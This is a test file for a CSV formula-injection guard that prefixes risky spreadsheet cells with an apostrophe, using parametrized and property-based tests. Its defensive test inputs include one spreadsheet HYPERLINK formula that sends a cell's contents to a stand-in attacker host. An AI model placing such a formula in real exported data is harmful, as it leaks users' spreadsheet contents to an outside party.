"""Tests for :mod:`wagtail_dangvu.pure.csvsafe`, the one guard against spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wagtail_dangvu.pure.csvsafe import FORMULA_PREFIXES, neutralise

# Any text, and text built to start with what a spreadsheet would evaluate.
texts = st.text() | st.builds(
    lambda prefix, rest: prefix + rest, st.sampled_from(FORMULA_PREFIXES), st.text()
)


def round_trip(cells: list[str]) -> list[str]:
    """``cells`` written as one CSV row and read back, as a spreadsheet would import them."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cells)
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    return row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
        "=1+1",
        "+84 912 345 678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_becomes_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "Kết luận 21-KL/TW", "21-KL/TW", " =1+1", "'=1+1", "Đảng ủy xã", "\n=1"]
)
def test_other_text_is_left_as_typed(text):
    assert neutralise(text) == text


@given(texts)
def test_no_cell_starts_a_formula_and_nothing_is_lost(text):
    cell = neutralise(text)

    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)
    assert (cell == text) == (not text.startswith(FORMULA_PREFIXES))


@given(st.lists(texts, min_size=1, max_size=5))
def test_cells_read_back_from_csv_are_the_neutralised_texts(cells):
    read = round_trip([neutralise(cell) for cell in cells])

    assert read == [neutralise(cell) for cell in cells]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in read)
